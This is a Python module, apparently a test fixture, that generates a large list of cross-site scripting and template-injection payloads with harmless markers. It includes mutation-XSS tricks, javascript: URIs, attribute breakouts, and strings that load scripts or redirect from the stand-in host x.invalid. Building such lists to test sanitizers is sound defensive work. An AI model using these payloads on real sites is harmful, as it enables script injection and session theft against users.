"""What somebody who wants a script to run would type, all of it written here.

Each text does one of three things if a page takes it for markup: calls `pwned(n)`, makes an element
marked `pwn`, or has a template engine work out `RECKONED`. `{n}` is its number.
"""

from itertools import cycle, islice

RECKONED = "62615533"
"""7919 * 7907: in a page only when something worked it out."""

TEXTS = (
    "<script>pwned({n})</script>",
    "<ScRiPt>pwned({n})</sCrIpT>",
    "<script src=//x.invalid/{n}></script>",
    "<script/x>pwned({n})</script >",
    "<<script>pwned({n})//<</script>",
    "<scr<script>ipt>pwned({n})</script>",
    "<script>\u2028pwned({n})\u2029</script>",
    "<img src=x onerror=pwned({n})>",
    "<img pwn src=//x.invalid/{n}>",
    "<img/src='x'/onerror='pwned({n})'>",
    "<img src=`x` onerror=`pwned({n})`>",
    "<IMG SRC=x ONERROR=&#112;wned({n})>",
    "<svg onload=pwned({n})>",
    "<svg/onload=pwned({n})//",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned({n})><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=pwned({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img pwn src=x onerror=pwned({n})>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><img src onerror=pwned({n})>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
    "<template><b pwn></b></template><b pwn>{n}</b>",
    "<body onload=pwned({n})>",
    "<details open ontoggle=pwned({n})>",
    "<input autofocus onfocus=pwned({n})>",
    "<video><source onerror=pwned({n})>",
    "<iframe src=javascript:parent.pwned({n})>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'>",
    "<object data=javascript:pwned({n})>",
    "<embed src=data:text/html,<script>parent.pwned({n})</script>>",
    "<base href=//x.invalid/{n}/>",
    "<meta http-equiv=refresh content='0;url=//x.invalid/{n}'>",
    "<link rel=stylesheet href=//x.invalid/{n}>",
    "<style>@import '//x.invalid/{n}';</style><b pwn>",
    "<b pwn style=position:fixed;inset:0>{n}</b>",
    "<a pwn href=javascript:pwned({n})>x</a>",
    "javascript:pwned({n})",
    "jAvAsCrIpT:pwned({n})//https://a.example",
    '[x](javascript:pwned({n})) https://a.example/"onclick=pwned({n})',
    "data:text/html,<script>parent.pwned({n})</script>",
    '" autofocus onfocus=pwned({n}) pwn="',
    "' autofocus onfocus=pwned({n}) pwn='",
    '"><b pwn onmouseover=pwned({n})>',
    "x hx-get=//x.invalid/{n} hx-trigger=load pwn",
    '" data-href="javascript:pwned({n})" data-copy="x" pwn="',
    "</textarea><b pwn>{n}",
    "</title><script>pwned({n})</script>",
    "</style></script><img src=x onerror=pwned({n})>",
    "--><!--><svg onload=pwned({n})>",
    "]]><b pwn>{n}</b>",
    "{{{{ 7919 * 7907 }}}}{n}",
    "{{% if 7919 * 7907 %}}{n}{{% endif %}}{{{{ 7919*7907 }}}}",
    "${{7919*7907}}#{{7919*7907}}{n}",
    "%(x)s {{x}} %s {{0}} {n} <b pwn>",
    "\u202e<b pwn>{n}</b>",
    "\uff1cscript\uff1epwned({n})\uff1c/script\uff1e<b pwn>",
    "\u02bb\u02bc<b\u00a0pwn><b\u3000pwn><b pwn>{n}",
    "&lt;script&gt;pwned({n})&lt;/script&gt;&#60;b pwn&#62;",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e';pwned({n});//",
    "');pwned({n});('\");pwned({n});//",
)
"""More than fifty; what makes each different from the others is the parser it aims at."""

_AROUND = ("{}", "a {}", '">{}', "'>{}", "</p>{}", "{} \u200b", "\n{}", "<!-- {}", "</td>{}")


def payloads(number: int) -> list[str]:
    """So many of them: as they stand, then each behind what closes another kind of place."""
    shapes = (around.format(text) for around in _AROUND for text in _with_braces())
    return [text.replace("{n}", str(n)) for n, text in enumerate(islice(cycle(shapes), number))]


def _with_braces() -> list[str]:
    """The texts with their doubled braces made single, the number still to be put in."""
    return [text.format(n="{n}") for text in TEXTS]
